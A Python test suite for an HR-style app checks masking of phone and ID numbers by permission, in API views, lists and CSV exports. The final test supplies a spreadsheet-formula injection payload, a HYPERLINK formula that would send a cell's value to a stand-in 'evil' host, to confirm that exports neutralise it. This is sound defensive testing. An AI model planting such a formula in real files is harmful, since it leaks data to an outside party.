"""Phones and ID numbers are masked for readers without customer.view_pii, in one place."""

from __future__ import annotations

import csv
import io

import pytest

from jingwei.core.pii import mask_id_number, mask_phone

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("raw", "masked"),
    [
        ("13812345678", "138****5678"),
        ("+8613812345678", "+86*******5678"),
        ("021-5555", "0*****55"),
        ("123", "***"),
    ],
)
def test_phone_masks_keep_the_ends(raw, masked):
    assert mask_phone(raw) == masked


def test_id_number_mask_hides_the_birth_date():
    assert mask_id_number("110101199003071234") == "110101********1234"


def test_reader_without_pii_permission_sees_masked_phone(shanghai_agent, east_manager, client_as):
    east_manager.id_number = "110101199003071234"
    east_manager.save()
    # The agent sees their own record only (self scope); give them a colleague to look at.
    shanghai_agent.phone = "13912345678"
    shanghai_agent.save()

    r = client_as(shanghai_agent).get(f"/api/org/employees/{shanghai_agent.pk}")

    assert r.status_code == 200
    assert r.json()["phone"] == "139****5678"


def test_reader_with_pii_permission_sees_full_phone_and_id(east_manager, shanghai_agent, client_as):
    shanghai_agent.phone = "13912345678"
    shanghai_agent.id_number = "110101199003071234"
    shanghai_agent.save()

    body = client_as(east_manager).get(f"/api/org/employees/{shanghai_agent.pk}").json()

    assert body["phone"] == "13912345678"
    assert body["id_number"] == "110101199003071234"


def test_lists_mask_too(shanghai_agent, client_as):
    items = client_as(shanghai_agent).get("/api/org/employees").json()["items"]

    assert items
    assert all("****" in row["phone"] for row in items if row["phone"])


def test_exports_mask_for_readers_without_pii(admin, org, client_as):
    from ..factories import EmployeeFactory, grant

    exporter = EmployeeFactory(tenant=org.tenant, department=org.hq, phone="13700001111")
    grant(exporter, ["org.view", "org.export"], "tenant")

    r = client_as(exporter).post("/api/org/employees/export")

    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    phones = [row[5] for row in rows[1:]]
    assert "137****1111" in phones
    assert "13700001111" not in r.content.decode("utf-8-sig")


def test_exported_cells_cannot_smuggle_spreadsheet_formulas():
    from jingwei.core.exports import csv_document

    text = csv_document(
        ["姓名"], [['=HYPERLINK("http://evil/?x="&A1,"点我")'], ["+86 138"], ["正常"]]
    )

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][0].startswith("'=")
    assert rows[2][0] == "'+86 138"
    assert rows[3][0] == "正常"
